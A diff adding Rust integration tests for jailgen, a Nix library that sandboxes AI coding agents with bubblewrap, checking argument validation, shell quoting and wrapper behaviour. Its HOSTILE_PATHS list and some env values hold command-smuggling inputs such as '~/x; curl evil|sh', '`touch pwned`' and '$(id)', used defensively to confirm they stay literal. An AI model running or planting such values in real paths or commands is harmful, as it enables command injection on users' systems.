@@ -1,0 +1,591 @@
+//! The Nix library (nix/lib) evaluated offline with the real `nix-instantiate` against the test
+//! doubles in nix/tests/doubles, plus the parts that need bash: decoding the shell words paths
+//! become, and running the rendered wrapper script with a fake `bwrap` that records its argv.
+//!
+//! Without `nix-instantiate` these tests skip loudly; with `JAILGEN_REQUIRE_NIX=1` (CI) they fail.
+//! `JAILGEN_JAIL_NIX=/path/to/jail.nix` adds the conformance test against the real jail.nix.
+
+use std::collections::BTreeMap;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+/// `true` when nix-instantiate can run; otherwise skips loudly, or panics under JAILGEN_REQUIRE_NIX=1.
+fn have_nix(test: &str) -> bool {
+    let ok = Command::new("nix-instantiate")
+        .arg("--version")
+        .output()
+        .map(|o| o.status.success())
+        .unwrap_or(false);
+    if !ok {
+        if std::env::var("JAILGEN_REQUIRE_NIX").as_deref() == Ok("1") {
+            panic!("{test}: nix-instantiate is not available but JAILGEN_REQUIRE_NIX=1");
+        }
+        eprintln!(
+            "SKIPPED {test}: nix-instantiate not found (set JAILGEN_REQUIRE_NIX=1 to fail instead)"
+        );
+    }
+    ok
+}
+
+fn nix_eval(args: &[&str]) -> Output {
+    Command::new("nix-instantiate")
+        .args(["--eval", "--strict", "--json"])
+        .args(args)
+        .current_dir(root())
+        .output()
+        .expect("run nix-instantiate")
+}
+
+fn nix_eval_json(args: &[&str]) -> serde_json::Value {
+    let out = nix_eval(args);
+    assert!(
+        out.status.success(),
+        "nix-instantiate {args:?} failed:\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_json::from_slice(&out.stdout).expect("nix-instantiate printed JSON")
+}
+
+#[test]
+fn nix_evaluation_suites_pass() {
+    if !have_nix("nix_evaluation_suites_pass") {
+        return;
+    }
+    let result = nix_eval_json(&["nix/tests"]);
+    let passed = result["passed"].as_array().expect("passed list");
+    let failed = result["failed"].as_array().expect("failed list");
+    for name in passed {
+        eprintln!("ok   {}", name.as_str().unwrap_or("?"));
+    }
+    for f in failed {
+        eprintln!(
+            "FAIL {}\n  got:      {}\n  expected: {}",
+            f["name"], f["expr"], f["expected"]
+        );
+    }
+    assert!(failed.is_empty(), "{} Nix test(s) failed", failed.len());
+    // Guards against a suite silently dropping out of nix/tests/default.nix.
+    assert!(passed.len() >= 85, "only {} Nix tests ran", passed.len());
+}
+
+#[test]
+fn flake_nix_parses() {
+    if !have_nix("flake_nix_parses") {
+        return;
+    }
+    for file in [
+        "flake.nix",
+        "nix/package.nix",
+        "nix/checks.nix",
+        "nix/lib/default.nix",
+    ] {
+        let out = Command::new("nix-instantiate")
+            .arg("--parse")
+            .arg(root().join(file))
+            .output()
+            .expect("run nix-instantiate --parse");
+        assert!(
+            out.status.success(),
+            "{file} does not parse:\n{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+}
+
+#[test]
+fn flake_outputs_evaluate_with_doubles_for_both_systems() {
+    if !have_nix("flake_outputs_evaluate_with_doubles_for_both_systems") {
+        return;
+    }
+    let v = nix_eval_json(&["nix/tests/flake-outputs.nix"]);
+    for system in ["x86_64-linux", "aarch64-linux"] {
+        let s = &v[system];
+        assert_eq!(s["default"], "jailgen", "{system}: {s}");
+        let packages: Vec<&str> = s["packages"]
+            .as_array()
+            .expect("package names")
+            .iter()
+            .filter_map(|p| p.as_str())
+            .collect();
+        for p in [
+            "default",
+            "jailgen",
+            "jailed-amp",
+            "jailed-claude-code",
+            "jailed-codex",
+            "jailed-crush",
+            "jailed-cursor-agent",
+            "jailed-gemini-cli",
+            "jailed-goose",
+            "jailed-opencode",
+            "jailed-pi",
+            "jailed-qwen-code",
+        ] {
+            assert!(
+                packages.contains(&p),
+                "{system}: package {p} missing from {packages:?}"
+            );
+        }
+        let lib: Vec<&str> = s["lib"]
+            .as_array()
+            .expect("lib names")
+            .iter()
+            .filter_map(|p| p.as_str())
+            .collect();
+        for name in [
+            "makeJailedAgent",
+            "makeJailedClaudeCode",
+            "makeJailedQwenCode",
+            "commonPkgs",
+            "commonJailOptions",
+            "agentPackages",
+            "presets",
+            "internals",
+        ] {
+            assert!(
+                lib.contains(&name),
+                "{system}: lib.{name} missing from {lib:?}"
+            );
+        }
+        assert_eq!(s["jailedClaudeBin"], "jailed-claude-code");
+        assert_eq!(
+            s["checks"],
+            serde_json::json!(["jailgen", "nix-library", "nix-style"])
+        );
+        assert_eq!(s["version"], env!("CARGO_PKG_VERSION"));
+        assert_eq!(s["claudeText"], true);
+        for tool in [
+            "cargo",
+            "rustc",
+            "clippy",
+            "rustfmt",
+            "nixfmt",
+            "bubblewrap",
+        ] {
+            assert!(
+                s["devShell"]
+                    .as_array()
+                    .is_some_and(|l| l.iter().any(|p| p == tool)),
+                "{system}: devShell lacks {tool}: {}",
+                s["devShell"]
+            );
+        }
+        assert_eq!(s["internalsJailHasCombinators"], true);
+    }
+}
+
+/// Evaluates `expr` (with `h`, the helpers, in scope) expecting failure; returns stderr.
+fn eval_error(expr: &str) -> String {
+    let full =
+        format!("let h = import ./nix/tests/helpers.nix {{ }}; in builtins.deepSeq ({expr}) true");
+    let out = nix_eval(&["-E", &full]);
+    assert!(!out.status.success(), "expected `{expr}` to fail");
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+#[test]
+fn bad_arguments_name_the_argument_and_show_a_corrected_example() {
+    if !have_nix("bad_arguments_name_the_argument_and_show_a_corrected_example") {
+        return;
+    }
+    let agent = |args: &str| {
+        format!(
+            "(h.jailgen.makeJailedAgent ({{ name = \"my-agent\"; pkg = h.pkgs.hello; configPaths = [ ]; }} // {args})).calls"
+        )
+    };
+    let cases = [
+        (
+            agent("{ extraReadonlyDirs = [ \"docs\" ]; }"),
+            vec![
+                "the path `docs` in `extraReadonlyDirs` is relative",
+                "For example:",
+                "extraReadonlyDirs = [ \"~/.config/my-agent\"",
+            ],
+        ),
+        (
+            agent("{ extraReadwriteDirs = [ \"~/../etc\" ]; }"),
+            vec!["`~/../etc` in `extraReadwriteDirs` contains a `..` component"],
+        ),
+        (
+            agent("{ configPaths = [ \"~/a\\nb\" ]; }"),
+            vec!["in `configPaths` contains a newline"],
+        ),
+        (
+            agent("{ extraCombinators = [ \"gpuu\" ]; }"),
+            vec![
+                "`extraCombinators` names `gpuu`",
+                "camera, gpu, gui",
+                "extraCombinators = [ \"gpu\"",
+            ],
+        ),
+        (
+            agent("{ git = \"closed\"; }"),
+            vec![
+                "`git` must be \"protect\" or \"open\", got `closed`",
+                "git = \"open\";",
+            ],
+        ),
+        (
+            agent("{ forwardEnv = [ \"$(id)\" ]; }"),
+            vec![
+                "`forwardEnv` entry `$(id)` is not an environment variable name",
+                "forwardEnv = [ \"ANTHROPIC_API_KEY\" ];",
+            ],
+        ),
+        (
+            agent("{ env.TOKEN = h.harness.jail.combinators.noescape \"$TOKEN\"; }"),
+            vec!["`env.TOKEN` must be a string", "use forwardEnv for secrets"],
+        ),
+        (
+            agent("{ hide = [ \"../x\" ]; }"),
+            vec!["`hide` pattern `../x` must be a glob relative to the working directory"],
+        ),
+        (
+            agent("{ network = \"no\"; }"),
+            vec!["`network` must be true or false", "network = true;"],
+        ),
+        (
+            "(h.jailgen.makeJailedCodex { name = \"my agent\"; }).name".to_string(),
+            vec!["jailgen.makeJailedAgent (`my agent`): `name` must be a command name"],
+        ),
+        (
+            agent("{ extraDirs = [ \"~/x\" ]; }"),
+            vec!["unexpected argument 'extraDirs'"],
+        ),
+    ];
+    for (expr, needles) in cases {
+        let stderr = eval_error(&expr);
+        for needle in needles {
+            assert!(
+                stderr.contains(needle),
+                "error for `{expr}` lacks `{needle}`:\n{stderr}"
+            );
+        }
+    }
+}
+
+/// Paths an attacker controlling jails.yaml might try, all valid for the library.
+const HOSTILE_PATHS: &[&str] = &[
+    "~/plain",
+    "~/my dir",
+    "~/it's",
+    "~/\"quoted\"",
+    "~/$HOME/$(id)",
+    "~/x; curl evil|sh",
+    "~/`touch pwned`",
+    "~/star*glob?[a]",
+    "~/tab\there",
+    "~/ünïcødé/日本",
+    "~/-leading-dash",
+    "~/back\\slash",
+    "~/~tilde",
+    "/abs/with space",
+    "/abs/$(id);`id`'\"",
+    "/abs/*",
+    "~",
+];
+
+#[test]
+fn shell_words_decode_to_the_input_path_with_bash() {
+    if !have_nix("shell_words_decode_to_the_input_path_with_bash") {
+        return;
+    }
+    let home = tempfile::tempdir().expect("temp home");
+    let home_str = home.path().to_str().expect("utf-8 temp path");
+    let list = serde_json::to_string(HOSTILE_PATHS).expect("json");
+    let expr = format!(
+        "let h = import ./nix/tests/helpers.nix {{ }}; in map h.jailgen.internals.paths.word (builtins.fromJSON {})",
+        serde_json::to_string(&list).expect("json string")
+    );
+    let words = nix_eval_json(&["-E", &expr]);
+    let words = words.as_array().expect("list of words");
+    assert_eq!(words.len(), HOSTILE_PATHS.len());
+    for (input, word) in HOSTILE_PATHS.iter().zip(words) {
+        let word = word.as_str().expect("word");
+        // A glob would expand if the word were unquoted: give it something to match.
+        std::fs::write(home.path().join("starXglobY"), "").expect("glob bait");
+        // The word reaches bash as $1 and is parsed by eval, as the wrapper's bash parses it.
+        let out = Command::new("bash")
+            .arg("-c")
+            .arg("eval \"printf '%s\\0' $1\"")
+            .arg("bash")
+            .arg(word)
+            .env("HOME", home_str)
+            .current_dir(home.path())
+            .output()
+            .expect("run bash");
+        assert!(out.status.success(), "bash failed on word {word:?}");
+        let decoded = String::from_utf8(out.stdout).expect("utf-8");
+        let expected = match input.strip_prefix('~') {
+            Some(rest) => format!("{home_str}{rest}"),
+            None => input.to_string(),
+        };
+        assert_eq!(
+            decoded,
+            format!("{expected}\0"),
+            "word {word:?} for {input:?} is not one shell word equal to the path"
+        );
+        assert!(
+            !home.path().join("pwned").exists(),
+            "word {word:?} ran a command"
+        );
+    }
+}
+
+/// A temp HOME with a project inside, a fake bwrap that writes its argv (NUL-separated) to
+/// `$JAILGEN_ARGV_OUT`, a seccomp filter file, and the evaluated host-mode wrapper script.
+struct FakeRun {
+    dir: tempfile::TempDir,
+    wrapper: PathBuf,
+}
+
+impl FakeRun {
+    fn new(args_json: &str) -> FakeRun {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let bin = dir.path().join("fake-bwrap/bin");
+        std::fs::create_dir_all(&bin).expect("mkdir");
+        let bwrap = bin.join("bwrap");
+        std::fs::write(
+            &bwrap,
+            "#!/bin/sh\nprintf '%s\\0' \"$@\" > \"$JAILGEN_ARGV_OUT\"\n",
+        )
+        .expect("write fake bwrap");
+        std::fs::set_permissions(&bwrap, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+        let filter = dir.path().join("filter.bpf");
+        std::fs::write(&filter, "").expect("filter");
+        std::fs::create_dir_all(dir.path().join("home/project")).expect("project dir");
+        let prefix = dir.path().join("fake-bwrap");
+        let text = nix_eval_json(&[
+            "nix/tests/host-wrapper.nix",
+            "--argstr",
+            "seccompFilter",
+            filter.to_str().expect("utf-8"),
+            "--argstr",
+            "bubblewrapPrefix",
+            prefix.to_str().expect("utf-8"),
+            "--argstr",
+            "argsJson",
+            args_json,
+        ]);
+        let wrapper = dir.path().join("wrapper");
+        std::fs::write(&wrapper, text.as_str().expect("wrapper text")).expect("write wrapper");
+        FakeRun { dir, wrapper }
+    }
+
+    fn home(&self) -> PathBuf {
+        self.dir.path().join("home")
+    }
+
+    /// Runs the wrapper from `cwd` with only `env` set; returns (output, recorded argv).
+    fn run(&self, cwd: &Path, env: &[(&str, &str)]) -> (Output, Vec<String>) {
+        let argv_out = self.dir.path().join("argv");
+        let _ = std::fs::remove_file(&argv_out);
+        let out = Command::new("bash")
+            .arg(&self.wrapper)
+            .arg("agent-arg")
+            .env_clear()
+            .env("PATH", "/usr/bin:/bin")
+            .env("HOME", self.home())
+            .env("JAILGEN_ARGV_OUT", &argv_out)
+            .envs(env.iter().copied())
+            .current_dir(cwd)
+            .output()
+            .expect("run wrapper");
+        let argv = std::fs::read(&argv_out)
+            .map(|bytes| {
+                String::from_utf8(bytes)
+                    .expect("utf-8 argv")
+                    .split_terminator('\0')
+                    .map(str::to_owned)
+                    .collect()
+            })
+            .unwrap_or_default();
+        (out, argv)
+    }
+}
+
+fn has_seq(argv: &[String], seq: &[&str]) -> bool {
+    argv.windows(seq.len())
+        .any(|w| w.iter().zip(seq).all(|(a, b)| a == b))
+}
+
+fn setenv_values(argv: &[String]) -> BTreeMap<String, String> {
+    argv.windows(3)
+        .filter(|w| w[0] == "--setenv")
+        .map(|w| (w[1].clone(), w[2].clone()))
+        .collect()
+}
+
+#[test]
+fn wrapper_runs_with_lang_unset_and_forwards_only_set_variables() {
+    if !have_nix("wrapper_runs_with_lang_unset_and_forwards_only_set_variables") {
+        return;
+    }
+    let run = FakeRun::new(
+        r#"{"name": "my-agent", "pkg": "/usr/bin/env", "configPaths": ["~/.state dir/x", "~/.agent.json"],
+            "forwardEnv": ["JG_KEY", "JG_OTHER"], "env": {"JG_LITERAL": "$(id) `id` 'q'"}}"#,
+    );
+    let project = run.home().join("project");
+
+    // LANG and both forwarded variables unset: the wrapper must not abort.
+    let (out, argv) = run.run(&project, &[]);
+    assert!(
+        out.status.success(),
+        "wrapper failed with LANG unset:\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let env = setenv_values(&argv);
+    assert_eq!(env.get("LANG").map(String::as_str), Some("C.UTF-8"));
+    assert!(
+        !env.contains_key("JG_KEY"),
+        "unset JG_KEY was forwarded: {argv:?}"
+    );
+    assert!(!env.contains_key("JG_OTHER"));
+    assert_eq!(
+        env.get("JG_LITERAL").map(String::as_str),
+        Some("$(id) `id` 'q'"),
+        "env values are literal"
+    );
+    // The argv ends with the entry and the user's arguments.
+    assert_eq!(
+        argv[argv.len() - 3..],
+        ["--", "/usr/bin/env", "agent-arg"].map(String::from)
+    );
+    // State paths were created on the host: a directory and a file.
+    assert!(run.home().join(".state dir/x").is_dir());
+    assert!(run.home().join(".agent.json").is_file());
+    let home = run.home().to_str().expect("utf-8").to_owned();
+    let state = format!("{home}/.state dir/x");
+    assert!(has_seq(&argv, &["--bind", &state, &state]), "{argv:?}");
+
+    // LANG set, one forwarded variable set with awkward content.
+    let (out, argv) = run.run(
+        &project,
+        &[("LANG", "de_DE.UTF-8"), ("JG_KEY", "s3cr3t $(id) \"x\"")],
+    );
+    assert!(out.status.success());
+    let env = setenv_values(&argv);
+    assert_eq!(env.get("LANG").map(String::as_str), Some("de_DE.UTF-8"));
+    assert_eq!(
+        env.get("JG_KEY").map(String::as_str),
+        Some("s3cr3t $(id) \"x\"")
+    );
+    assert!(!env.contains_key("JG_OTHER"));
+}
+
+#[test]
+fn wrapper_binds_hostile_paths_as_single_arguments_in_order() {
+    if !have_nix("wrapper_binds_hostile_paths_as_single_arguments_in_order") {
+        return;
+    }
+    let readonly = ["~/ro dir/it's", "~/ro dir/it's/$(id)", "/tmp/a;b c"];
+    let readwrite = ["~/ro dir", "~/rw `x`"];
+    let args = serde_json::json!({
+        "name": "my-agent", "pkg": "/usr/bin/env", "configPaths": [],
+        "extraReadonlyDirs": readonly, "extraReadwriteDirs": readwrite,
+    });
+    let run = FakeRun::new(&args.to_string());
+    let home = run.home().to_str().expect("utf-8").to_owned();
+    for p in ["ro dir/it's/$(id)", "rw `x`"] {
+        std::fs::create_dir_all(run.home().join(p)).expect("mkdir");
+    }
+    let (out, argv) = run.run(&run.home().join("project"), &[]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let expand = |p: &str| p.replacen('~', &home, 1);
+    let pos = |flag: &str, p: &str| {
+        let p = expand(p);
+        argv.windows(3)
+            .position(|w| w[0] == flag && w[1] == p && w[2] == p)
+            .unwrap_or_else(|| panic!("no `{flag} {p:?} {p:?}` in {argv:?}"))
+    };
+    let cwd = argv
+        .windows(3)
+        .position(|w| w[0] == "--bind" && w[1].ends_with("/project"))
+        .expect("mount-cwd");
+    // Read-only binds before the working directory, parents first.
+    assert!(pos("--ro-bind", "/tmp/a;b c") < cwd);
+    assert!(pos("--ro-bind", "~/ro dir/it's") < pos("--ro-bind", "~/ro dir/it's/$(id)"));
+    assert!(pos("--ro-bind", "~/ro dir/it's/$(id)") < cwd);
+    // Read-write binds after it; the read-only children of `~/ro dir` bound again after it.
+    let rw_parent = pos("--bind", "~/ro dir");
+    assert!(cwd < rw_parent);
+    assert!(cwd < pos("--bind", "~/rw `x`"));
+    let rebinds: Vec<usize> = argv
+        .windows(3)
+        .enumerate()
+        .filter(|(_, w)| w[0] == "--ro-bind" && w[1] == expand("~/ro dir/it's"))
+        .map(|(i, _)| i)
+        .collect();
+    assert_eq!(rebinds.len(), 2, "{argv:?}");
+    assert!(rebinds[1] > rw_parent);
+}
+
+#[test]
+fn wrapper_refuses_to_start_in_home_unless_told_to() {
+    if !have_nix("wrapper_refuses_to_start_in_home_unless_told_to") {
+        return;
+    }
+    let run =
+        FakeRun::new(r#"{"name": "my-agent", "pkg": "/usr/bin/env", "configPaths": ["~/.agent"]}"#);
+    let (out, argv) = run.run(&run.home(), &[]);
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("refusing to start"), "{stderr}");
+    assert!(stderr.contains("JAILGEN_ALLOW_CWD=1"), "{stderr}");
+    assert!(argv.is_empty(), "bwrap ran anyway");
+    assert!(
+        !run.home().join(".agent").exists(),
+        "state dirs must not be created when the guard refuses"
+    );
+    let (out, argv) = run.run(&run.home(), &[("JAILGEN_ALLOW_CWD", "1")]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(!argv.is_empty());
+}
+
+#[test]
+fn library_matches_real_jail_nix_when_available() {
+    let Ok(checkout) = std::env::var("JAILGEN_JAIL_NIX") else {
+        eprintln!(
+            "SKIPPED library_matches_real_jail_nix_when_available: JAILGEN_JAIL_NIX is not set \
+             (point it at a jail.nix checkout to compare the double and the library with the real thing)"
+        );
+        return;
+    };
+    if !have_nix("library_matches_real_jail_nix_when_available") {
+        return;
+    }
+    let v = nix_eval_json(&["nix/tests/conformance.nix", "--arg", "jailNix", &checkout]);
+    fn leaves(v: &serde_json::Value, path: String, out: &mut Vec<(String, bool)>) {
+        match v {
+            serde_json::Value::Object(m) => {
+                for (k, v) in m {
+                    leaves(v, format!("{path}.{k}"), out);
+                }
+            }
+            other => out.push((path, other.as_bool() == Some(true))),
+        }
+    }
+    let mut results = Vec::new();
+    leaves(&v, String::new(), &mut results);
+    for (name, ok) in &results {
+        eprintln!("{} {name}", if *ok { "ok  " } else { "FAIL" });
+    }
+    assert!(results.len() >= 15);
+    assert!(
+        results.iter().all(|(_, ok)| *ok),
+        "conformance with real jail.nix failed"
+    );
+}
